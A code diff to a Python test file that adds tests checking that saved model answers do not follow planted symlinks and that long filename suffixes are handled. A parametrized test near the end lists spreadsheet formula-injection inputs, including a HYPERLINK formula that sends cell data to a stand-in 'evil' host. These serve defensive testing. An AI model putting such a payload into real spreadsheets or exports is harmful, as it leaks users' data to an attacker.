@@ -8,7 +8,7 @@ import httpx
 import pytest
 from flaky_platform import CALM, flaky_platform
 
-from modelwhisk.client.answers import Reply
+from modelwhisk.client.answers import Binary, Reply
 from modelwhisk.client.calls import Calls
 from modelwhisk.client.transport import AsyncTransport
 from modelwhisk.map.inputs import rows_of
@@ -36,6 +36,25 @@ def test_a_defect_that_one_input_shows_is_its_own_line(tmp_path, monkeypatch):
     lines = {result.row.values["n"]: result.line for result in results}
     assert lines.pop(2).error == "ZeroDivisionError: shown by 2"
     assert {n: line.answer for n, line in lines.items()} == {n: {"square": n * n} for n in (0, 1, 3, 4)}
+
+
+def test_an_answer_is_written_through_no_link(tmp_path):
+    """Another user of the machine can tell beforehand what it will be called."""
+    (row,) = rows_of([{"n": 1}])
+    victim = tmp_path / "victim"
+    victim.write_text("mine")
+    runner = Runner(Calls("http://model"), None, tmp_path, 1)
+    for name in (f"{row.label}.png", f".{row.label}.png.part"):
+        (tmp_path / name).symlink_to(victim)
+    path = runner._save(row, Binary(b"theirs", "image/png"))
+    assert (path.read_text(), path.is_symlink(), victim.read_text()) == ("theirs", False, "mine")
+
+
+def test_no_ending_of_an_answer_s_name_is_too_long_for_the_file(tmp_path):
+    (row,) = rows_of([{"n": 1}])
+    runner = Runner(Calls("http://model"), None, tmp_path, 1)
+    assert runner._save(row, Binary(b"x", "image/png", "x." + "p" * 190)).suffix == ".png"
+    assert runner._save(row, Binary(b"x", "image/png", "x.gif")).suffix == ".gif"
 
 
 @pytest.mark.parametrize("told", ['=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@x", "\t=1", "distance"])
